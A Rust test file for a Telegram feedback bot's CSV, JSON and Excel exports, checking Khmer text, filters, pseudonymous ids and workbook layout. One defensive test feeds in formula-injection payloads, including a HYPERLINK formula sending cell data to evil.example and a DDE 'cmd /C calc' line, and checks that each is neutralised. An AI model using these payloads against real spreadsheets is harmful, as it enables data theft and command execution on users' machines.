//! Exports read back and compared with what the members did: Khmer byte for byte, filters,
//! and no Telegram id anywhere in the bytes.

use crate::support;

use chrono::{TimeZone, Utc};
use dwcp_feedback::cli::{self, ExportFormat};
use dwcp_feedback::conversation::{Effect, ProfileField, State};
use dwcp_feedback::domain::*;
use dwcp_feedback::store::{ExportFilter, StepWrite, Store};
use support::harness::{database, with_plan};

const SOKHA: i64 = 5_123_456_789;
const DARA: i64 = 6_987_654_321;
const KHMER_COMMENT: &str = "ត្រូវការថវិកាបន្ថែម, \"ជាពិសេស\"\nសម្រាប់កម្មករក្រៅប្រព័ន្ធ & ស្ត្រី";

fn at(day: u32, hour: u32) -> chrono::DateTime<Utc> {
    Utc.with_ymd_and_hms(2027, 1, day, hour, 0, 0).unwrap()
}

fn code(s: &str) -> ActivityCode {
    ActivityCode::parse(s).unwrap()
}

async fn step(store: &Store, member: i64, effects: Vec<Effect>, now: chrono::DateTime<Utc>) {
    store
        .apply(StepWrite {
            chat_id: member,
            state: &State::Menu,
            effects: &effects,
            plan_version: 1,
            update_id: None,
            first_name: None,
            now,
        })
        .await
        .unwrap();
}

async fn fixture() -> (tempfile::TempDir, Store) {
    let (dir, url) = database();
    let store = with_plan(&url).await;
    let rate = |c: &str, r: u8| Effect::Rate {
        code: code(c),
        rating: Rating::new(r).unwrap(),
    };
    step(
        &store,
        SOKHA,
        vec![
            Effect::SetLang(Lang::Km),
            Effect::GiveConsent,
            Effect::SetProfile(ProfileField::Constituency(Constituency::Workers)),
            Effect::SetProfile(ProfileField::Organisation(OrgChoice::Known(Org::built_in(
                reference::organisation("CCAWDU").unwrap(),
            )))),
            Effect::SetProfile(ProfileField::Province(Province::new(12).unwrap())),
            Effect::SetProfile(ProfileField::Sector(Sector::Garment)),
            Effect::SetProfile(ProfileField::Gender(Gender::Female)),
            rate("P1.1", 4),
        ],
        at(2, 3),
    )
    .await;
    step(
        &store,
        SOKHA,
        vec![Effect::Comment {
            code: code("P1.1"),
            comment: Comment::Text(CommentText::parse(KHMER_COMMENT).unwrap()),
        }],
        at(2, 4),
    )
    .await;
    step(&store, SOKHA, vec![rate("P1.1", 2)], at(9, 4)).await;
    step(
        &store,
        DARA,
        vec![
            Effect::SetLang(Lang::En),
            Effect::GiveConsent,
            Effect::SetProfile(ProfileField::Constituency(Constituency::Employers)),
            Effect::SetProfile(ProfileField::Organisation(OrgChoice::Named(
                "Angkor Bricks Co.".into(),
            ))),
            rate("P1.1", 5),
            rate("P3.3", 3),
        ],
        at(5, 9),
    )
    .await;
    let voice = Comment::Voice(VoiceNote {
        file_id: "AwACAgUAAxkBAAIB".into(),
        duration_secs: 17,
        size_bytes: Some(30_000),
    });
    step(
        &store,
        DARA,
        vec![Effect::Comment {
            code: code("P3.3"),
            comment: voice,
        }],
        at(5, 10),
    )
    .await;
    (dir, store)
}

async fn export(
    store: &Store,
    dir: &tempfile::TempDir,
    format: ExportFormat,
    filter: ExportFilter,
) -> Vec<u8> {
    let path = dir.path().join(format!("out.{format:?}"));
    let mut report = Vec::new();
    cli::export(store, format, &path, filter, None, at(20, 0), &mut report)
        .await
        .unwrap();
    std::fs::read(&path).unwrap()
}

fn csv_rows(bytes: &[u8]) -> Vec<csv::StringRecord> {
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "Excel needs the BOM to read UTF-8"
    );
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        dwcp_feedback::export::COLUMNS
    );
    reader.records().map(Result::unwrap).collect()
}

fn assert_pseudonymous(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for id in [SOKHA, DARA] {
        assert!(
            !text.contains(&id.to_string()),
            "a Telegram id is in the export"
        );
    }
}

#[tokio::test]
async fn csv_holds_every_current_rating_as_given() {
    let (dir, store) = fixture().await;
    let bytes = export(&store, &dir, ExportFormat::Csv, ExportFilter::default()).await;
    assert_pseudonymous(&bytes);
    let rows = csv_rows(&bytes);
    let table: Vec<Vec<&str>> = rows.iter().map(|r| r.iter().collect()).collect();
    assert_eq!(table.len(), 3, "{table:#?}");
    // Member by member (Sokha, then Dara), each member's in plan order.
    let sokha = &table[0];
    assert_eq!(
        &sokha[1..8],
        [
            "workers",
            "C.CAWDU",
            "Phnom Penh",
            "garment",
            "female",
            "P1.1",
            "2"
        ]
    );
    assert_eq!(
        sokha[8].as_bytes(),
        KHMER_COMMENT.as_bytes(),
        "Khmer, commas, quotes and a newline survive"
    );
    assert_eq!(
        &sokha[11..],
        ["km", "2027-01-02 10:00:00", "2027-01-09 11:00:00", "3"]
    );
    let dara_p11 = &table[1];
    assert_eq!(
        &dara_p11[1..8],
        ["employers", "Angkor Bricks Co.", "", "", "", "P1.1", "5"]
    );
    let dara_p33 = &table[2];
    assert_eq!(
        (dara_p33[6], dara_p33[9], dara_p33[10], dara_p33[11]),
        ("P3.3", "AwACAgUAAxkBAAIB", "17", "en")
    );
    assert_eq!(dara_p11[0], dara_p33[0], "one member, one respondent id");
    assert_ne!(sokha[0], dara_p11[0]);

    let again = csv_rows(&export(&store, &dir, ExportFormat::Csv, ExportFilter::default()).await);
    assert_eq!(
        again[0].get(0),
        rows[0].get(0),
        "the same id in every export"
    );
}

#[tokio::test]
async fn filters_narrow_the_export() {
    let (dir, store) = fixture().await;
    let only = |f: ExportFilter| {
        let (store, dir) = (&store, &dir);
        async move {
            csv_rows(&export(store, dir, ExportFormat::Csv, f).await)
                .iter()
                .map(|r| (r[6].to_string(), r[7].to_string()))
                .collect::<Vec<_>>()
        }
    };
    assert_eq!(
        only(ExportFilter {
            constituency: Some(Constituency::Workers),
            ..Default::default()
        })
        .await,
        [("P1.1".into(), "2".into())]
    );
    assert_eq!(
        only(ExportFilter {
            province: Some(12),
            ..Default::default()
        })
        .await
        .len(),
        1
    );
    assert_eq!(
        only(ExportFilter {
            province: Some(3),
            ..Default::default()
        })
        .await
        .len(),
        0
    );
    // Last changed on 5 January (Dara) but not Sokha's change on the 9th.
    let window = ExportFilter {
        since: Some(at(4, 17)),
        until: Some(at(8, 17)),
        ..Default::default()
    };
    assert_eq!(
        only(window).await,
        [("P1.1".into(), "5".into()), ("P3.3".into(), "3".into())]
    );
}

#[tokio::test]
async fn json_carries_the_same_records_and_says_what_it_is() {
    let (dir, store) = fixture().await;
    let bytes = export(&store, &dir, ExportFormat::Json, ExportFilter::default()).await;
    assert_pseudonymous(&bytes);
    let doc: serde_json::Value = serde_json::from_slice(&bytes).expect("valid JSON");
    assert_eq!(doc["format"], "dwcp-feedback ratings v1");
    assert_eq!(doc["plan_version"], 1);
    assert_eq!(doc["plan_status"], "draft");
    let ratings = doc["ratings"].as_array().unwrap();
    assert_eq!(ratings.len(), 3);
    assert_eq!(ratings[0]["comment"], KHMER_COMMENT);
    assert_eq!(ratings[0]["rating"], 2);
    assert_eq!(ratings[2]["voice_seconds"], 17);
    let csv = csv_rows(&export(&store, &dir, ExportFormat::Csv, ExportFilter::default()).await);
    assert_eq!(
        ratings[1]["respondent"], csv[1][0],
        "CSV and JSON agree on ids"
    );
    let audit = store.audit_log().await.unwrap();
    assert!(
        audit
            .iter()
            .any(|e| e.action == "export"
                && e.detail.starts_with("json of plan version 1: 3 ratings")),
        "{audit:?}"
    );
}

#[tokio::test]
async fn the_workbook_has_every_sheet_and_matches_the_csv() {
    use calamine::{open_workbook, Data, Reader, Xlsx};
    let (dir, store) = fixture().await;
    export(&store, &dir, ExportFormat::Xlsx, ExportFilter::default()).await;
    let csv = csv_rows(&export(&store, &dir, ExportFormat::Csv, ExportFilter::default()).await);
    let path = dir.path().join("out.Xlsx");
    // Printed: A4 on every sheet, a footer naming the plan (the draft marked) and the pages.
    let mut zipped = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    for i in 1..=5 {
        let mut xml = String::new();
        std::io::Read::read_to_string(
            &mut zipped
                .by_name(&format!("xl/worksheets/sheet{i}.xml"))
                .unwrap(),
            &mut xml,
        )
        .unwrap();
        assert!(xml.contains(r#"paperSize="9""#), "sheet {i} on A4");
        assert!(
            xml.contains("version 1 (DRAFT)") && xml.contains("Page &amp;P of &amp;N"),
            "sheet {i}'s footer"
        );
    }
    let mut wb: Xlsx<_> = open_workbook(&path).expect("a readable workbook");
    assert_eq!(
        wb.sheet_names(),
        [
            "Summary",
            "By constituency",
            "By province",
            "Ratings",
            "Comments"
        ]
    );
    let cell = |d: &Data| match d {
        Data::String(s) => s.clone(),
        Data::Float(f) => format!("{f}"),
        Data::Int(i) => i.to_string(),
        Data::Empty => String::new(),
        // A real date (Phnom Penh time), shown as the CSV writes it.
        Data::DateTime(d) => {
            let epoch = chrono::NaiveDate::from_ymd_opt(1899, 12, 30)
                .unwrap()
                .and_hms_opt(0, 0, 0)
                .unwrap();
            let t =
                epoch + chrono::Duration::milliseconds((d.as_f64() * 86_400_000.0).round() as i64);
            t.format("%Y-%m-%d %H:%M:%S").to_string()
        }
        other => format!("{other:?}"),
    };
    let sheet = |wb: &mut Xlsx<_>, name: &str| -> Vec<Vec<String>> {
        wb.worksheet_range(name)
            .unwrap()
            .rows()
            .map(|r| r.iter().map(cell).collect())
            .collect()
    };

    let ratings = sheet(&mut wb, "Ratings");
    assert_eq!(ratings[0], dwcp_feedback::export::COLUMNS);
    assert_eq!(ratings.len() - 1, csv.len());
    for (x, c) in ratings[1..].iter().zip(&csv) {
        assert_eq!(
            x,
            &c.iter().map(str::to_string).collect::<Vec<_>>(),
            "the workbook and the CSV agree"
        );
    }
    assert_eq!(ratings[1][8].as_bytes(), KHMER_COMMENT.as_bytes());

    let summary = sheet(&mut wb, "Summary");
    let p11 = summary.iter().find(|r| r[0] == "P1.1").unwrap();
    // Sokha 2 (workers), Dara 5 (employers).
    assert_eq!(
        &p11[3..15],
        ["2", "3.5", "3.5", "0", "1", "0", "0", "1", "2", "5", "", "1"]
    );
    assert!(p11[1].starts_with("ពង្រីក"), "Khmer title: {}", p11[1]);
    assert_eq!(
        summary.iter().filter(|r| !r[0].is_empty()).count(),
        16,
        "header and every activity"
    );

    let by_side = sheet(&mut wb, "By constituency");
    assert!(by_side.contains(&vec![
        "P3.3".into(),
        "employers".into(),
        "1".into(),
        "3".into()
    ]));
    assert!(
        by_side.contains(&vec![
            "P3.3".into(),
            "government".into(),
            "0".into(),
            "".into()
        ]),
        "a constituency that did not answer is a finding: {by_side:?}"
    );
    assert!(
        !by_side.iter().any(|row| row[1] == "other" && row[2] == "0"),
        "no empty 'other' rows"
    );
    let by_province = sheet(&mut wb, "By province");
    assert!(by_province.contains(&vec![
        "P1.1".into(),
        "12".into(),
        "Phnom Penh".into(),
        "ភ្នំពេញ".into(),
        "1".into(),
        "2".into()
    ]));
    assert!(by_province.contains(&vec![
        "P1.1".into(),
        "".into(),
        "not given".into(),
        "មិនបានប្រាប់".into(),
        "1".into(),
        "5".into()
    ]));
    let comments = sheet(&mut wb, "Comments");
    assert_eq!(
        comments
            .iter()
            .skip(1)
            .map(|r| (r[0].as_str(), r[5].as_str()))
            .collect::<Vec<_>>(),
        [("P1.1", "2"), ("P3.3", "3")]
    );

    for name in wb.sheet_names() {
        for row in sheet(&mut wb, &name) {
            for value in row {
                assert!(
                    !value.contains(&SOKHA.to_string()) && !value.contains(&DARA.to_string()),
                    "a Telegram id in {name}"
                );
            }
        }
    }
    // Khmer cells carry a Khmer-capable font, and the chart is a native one.
    let bytes = std::fs::read(&path).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut styles = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("xl/styles.xml").unwrap(), &mut styles).unwrap();
    assert!(styles.contains(dwcp_feedback::export::KHMER_FONT));
    assert!(
        zip.by_name("xl/charts/chart1.xml").is_ok(),
        "a native Excel chart"
    );
}

#[tokio::test]
async fn an_earlier_plan_version_exports_with_its_own_texts() {
    let (dir, store) = fixture().await;
    let mut reworded = dwcp_feedback::plan_io::default_plan();
    reworded.activities[0].title.en = "Reworded in version 2".into();
    store.add_plan(&reworded, at(15, 0)).await.unwrap();
    let json: serde_json::Value = serde_json::from_slice(
        &export(
            &store,
            &dir,
            ExportFormat::Json,
            ExportFilter {
                plan_version: Some(1),
                ..Default::default()
            },
        )
        .await,
    )
    .unwrap();
    assert_eq!(
        (
            json["plan_version"].as_i64(),
            json["ratings"].as_array().map(Vec::len)
        ),
        (Some(1), Some(3))
    );
    let mut report = Vec::new();
    let missing = cli::export(
        &store,
        ExportFormat::Csv,
        &dir.path().join("x.csv"),
        ExportFilter {
            plan_version: Some(9),
            ..Default::default()
        },
        None,
        at(20, 0),
        &mut report,
    )
    .await;
    assert!(missing
        .unwrap_err()
        .to_string()
        .contains("no plan version 9"));
}

#[tokio::test]
async fn with_voice_downloads_each_note_and_the_export_names_the_file() {
    use support::fake_telegram::{FakeTelegram, TOKEN};
    let fake = FakeTelegram::start().await;
    let ogg = b"OggS\0voice-note-bytes".to_vec();
    fake.add_file("AwACAgUAAxkBAAIB", &ogg);
    let (dir, store) = fixture().await;
    let bot = teloxide::Bot::new(TOKEN).set_api_url(fake.url().parse().unwrap());
    let voices = dir.path().join("voices");
    let path = dir.path().join("out.csv");
    let mut report = Vec::new();
    cli::export(
        &store,
        ExportFormat::Csv,
        &path,
        ExportFilter::default(),
        Some((bot, voices.clone())),
        at(20, 0),
        &mut report,
    )
    .await
    .unwrap();
    let report = String::from_utf8(report).unwrap();
    assert!(report.contains("Downloaded 1 voice notes"), "{report}");

    let files: Vec<_> = std::fs::read_dir(&voices)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(files.len(), 1);
    assert_eq!(std::fs::read(&files[0]).unwrap(), ogg);
    let name = files[0].file_name().unwrap().to_str().unwrap().to_string();
    assert!(
        name.ends_with("-P3.3.ogg"),
        "named by respondent and activity: {name}"
    );

    let bytes = std::fs::read(&path).unwrap();
    assert_pseudonymous(&bytes);
    let rows = csv_rows(&bytes);
    let voice_row = rows.iter().find(|r| r.get(6) == Some("P3.3")).unwrap();
    assert!(
        voice_row.get(9).unwrap().ends_with(&name),
        "the export points at the file: {voice_row:?}"
    );
    assert!(
        name.starts_with(voice_row.get(0).unwrap()),
        "same respondent id"
    );
}

/// What a member types or names can hold a spreadsheet formula; in the CSV it arrives inert
/// (a leading `'`), while numbers stay numbers and Khmer text stays as it was.
#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_arrive_inert() {
    let (dir, store) = fixture().await;
    let hostile = [
        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
    ];
    for (i, text) in hostile.iter().enumerate() {
        let member = 9_100 + i as i64;
        step(
            &store,
            member,
            vec![
                Effect::SetLang(Lang::En),
                Effect::GiveConsent,
                Effect::SetProfile(ProfileField::Constituency(Constituency::Workers)),
                Effect::SetProfile(ProfileField::Organisation(OrgChoice::Named(
                    "=1+1 Union".into(),
                ))),
                Effect::Rate {
                    code: code("P2.1"),
                    rating: Rating::new(3).unwrap(),
                },
            ],
            at(3, 1),
        )
        .await;
        step(
            &store,
            member,
            vec![Effect::Comment {
                code: code("P2.1"),
                comment: Comment::Text(CommentText::parse(text).unwrap()),
            }],
            at(3, 2),
        )
        .await;
    }
    let rows = csv_rows(&export(&store, &dir, ExportFormat::Csv, ExportFilter::default()).await);
    let column = |name: &str| {
        dwcp_feedback::export::COLUMNS
            .iter()
            .position(|c| *c == name)
            .unwrap()
    };
    let (comment, organisation, rating) =
        (column("comment"), column("organisation"), column("rating"));
    for text in hostile {
        let row = rows
            .iter()
            .find(|r| r[comment].ends_with(text))
            .unwrap_or_else(|| panic!("{text} is in the export"));
        assert_eq!(&row[comment], format!("'{text}"), "inert");
        assert_eq!(&row[organisation], "'=1+1 Union");
        assert_eq!(&row[rating], "3", "numbers stay numbers");
    }
    assert!(
        rows.iter().any(|r| r[comment] == *KHMER_COMMENT),
        "Khmer text is untouched"
    );
    // Nothing in any cell starts a formula any more.
    for row in &rows {
        for cell in row.iter() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
        }
    }
}

/// The workbook as LibreOffice and Excel lay it out: tall enough rows for Khmer, real dates,
/// and a page setup for printing. Read from the file's own XML.
#[tokio::test]
async fn the_workbook_reads_well_rows_fit_khmer_times_are_dates_pages_are_set_up() {
    use std::io::Read;
    let (dir, store) = fixture().await;
    export(&store, &dir, ExportFormat::Xlsx, ExportFilter::default()).await;
    let bytes = std::fs::read(dir.path().join("out.Xlsx")).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut part = |name: &str| {
        let mut s = String::new();
        zip.by_name(name).unwrap().read_to_string(&mut s).unwrap();
        s
    };
    let (summary, ratings, comments) = (
        part("xl/worksheets/sheet1.xml"),
        part("xl/worksheets/sheet4.xml"),
        part("xl/worksheets/sheet5.xml"),
    );
    let styles = part("xl/styles.xml");
    // Rows holding Khmer are made taller than the default 15 pt; wrapped ones by their lines.
    for (name, sheet) in [
        ("Summary", &summary),
        ("Ratings", &ratings),
        ("Comments", &comments),
    ] {
        let tall = sheet
            .split("<row ")
            .skip(2)
            .filter(|row| row.contains("customHeight=\"1\""))
            .count();
        assert!(tall > 0, "{name}: no row made taller");
        assert!(
            !sheet.contains("ht=\"15\" customHeight"),
            "{name}: a row kept the default height"
        );
    }
    // Times are numbers in a date format, not text.
    assert!(styles.contains("yyyy-mm-dd hh:mm"), "a date format");
    // Every sheet prints landscape at a readable 85 % (not shrunk to one page wide: the columns
    // that do not fit go on to the next page), with the export's time and filter in the page
    // header; the Summary's chart on a page of its own.
    for (name, sheet) in [
        ("Summary", &summary),
        ("Ratings", &ratings),
        ("Comments", &comments),
    ] {
        assert!(
            sheet.contains("orientation=\"landscape\""),
            "{name}: not landscape"
        );
        assert!(sheet.contains("scale=\"85\""), "{name}: not at 85 %");
        assert!(!sheet.contains("fitToPage"), "{name}: shrunk to fit");
        assert!(
            sheet.contains("Exported 2027-01-20 07:00 (Phnom Penh time)")
                && sheet.contains("All ratings (no filter)"),
            "{name}: the page header"
        );
    }
    assert!(
        summary.contains("<rowBreaks"),
        "the chart starts its own page"
    );
    let workbook = part("xl/workbook.xml");
    assert!(
        workbook.contains("_xlnm.Print_Titles"),
        "header rows repeat"
    );
    assert!(
        workbook.contains("Ratings!$A:$A,Ratings!$1:$1"),
        "the first column repeats on the pages of the columns that follow: {workbook}"
    );
}

/// The Comments sheet names an activity's titles on its first comment only, and a filtered
/// export says its filter on every printed page.
#[tokio::test]
async fn the_comments_sheet_names_each_activity_once_and_pages_say_the_filter() {
    use calamine::{open_workbook, Reader, Xlsx};
    let (dir, store) = fixture().await;
    step(
        &store,
        DARA,
        vec![Effect::Comment {
            code: code("P1.1"),
            comment: Comment::Text(CommentText::parse("Good for employers too").unwrap()),
        }],
        at(6, 10),
    )
    .await;
    export(&store, &dir, ExportFormat::Xlsx, ExportFilter::default()).await;
    let mut wb: Xlsx<_> = open_workbook(dir.path().join("out.Xlsx")).unwrap();
    let comments: Vec<Vec<String>> = wb
        .worksheet_range("Comments")
        .unwrap()
        .rows()
        .skip(1)
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    let p11: Vec<_> = comments.iter().filter(|r| r[0] == "P1.1").collect();
    assert_eq!(p11.len(), 2);
    assert!(
        !p11[0][1].is_empty() && !p11[0][2].is_empty(),
        "titles on the first"
    );
    assert!(
        p11[1][1].is_empty() && p11[1][2].is_empty(),
        "not again: {:?}",
        p11[1]
    );

    let filter = ExportFilter {
        constituency: Some(Constituency::Workers),
        province: Some(12),
        ..ExportFilter::default()
    };
    export(&store, &dir, ExportFormat::Xlsx, filter).await;
    let mut zip =
        zip::ZipArchive::new(std::fs::File::open(dir.path().join("out.Xlsx")).unwrap()).unwrap();
    let mut ratings = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/worksheets/sheet4.xml").unwrap(),
        &mut ratings,
    )
    .unwrap();
    assert!(
        ratings.contains("Filter: workers only; province 12 (Phnom Penh)"),
        "{ratings}"
    );
}
